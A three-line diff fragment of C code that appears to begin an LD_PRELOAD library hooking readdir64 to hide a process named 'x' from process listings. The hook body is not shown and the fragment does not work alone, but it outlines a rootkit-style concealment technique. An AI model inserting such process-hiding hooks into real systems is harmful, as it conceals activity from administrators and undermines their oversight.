@@ -1,0 +1,3 @@
+#include <dlfcn.h>
+static const char *process_to_filter = "x";
+DECLARE_READDIR(dirent64, readdir64);
